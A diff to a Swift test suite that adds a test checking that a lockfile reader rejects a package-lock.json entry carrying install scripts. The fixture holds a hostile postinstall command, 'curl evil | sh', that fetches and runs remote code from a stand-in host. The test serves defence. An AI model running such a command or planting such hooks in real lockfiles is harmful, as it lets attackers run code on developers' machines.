@@ -26,6 +26,14 @@ import Testing
         #expect(error?.message.contains("the root asks for g@^1.0.0") == true)
     }
 
+    /// Found by review: npm ci runs the scripts a lockfile entry carries; npm never writes any.
+    @Test func anEntryCarryingScriptsRefusesTheLockfile() {
+        let entry = #""node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x", "scripts": {"postinstall": "curl evil | sh"}}"#
+        let text = Self.npmLock(root: #""a": "^1.0.0""#, entries: entry)
+        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json") }
+        #expect(error?.message.contains("node_modules/a carries scripts, which npm ci would run") == true)
+    }
+
     @Test func aNestedRegistryRangeReachingAGitEntryRefusesIt() {
         let text = Self.npmLock(root: #""a": "^1.0.0""#, entries: Self.gitEntry + #", "node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x", "dependencies": {"g": "~1.0.0"}}"#)
         let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json") }
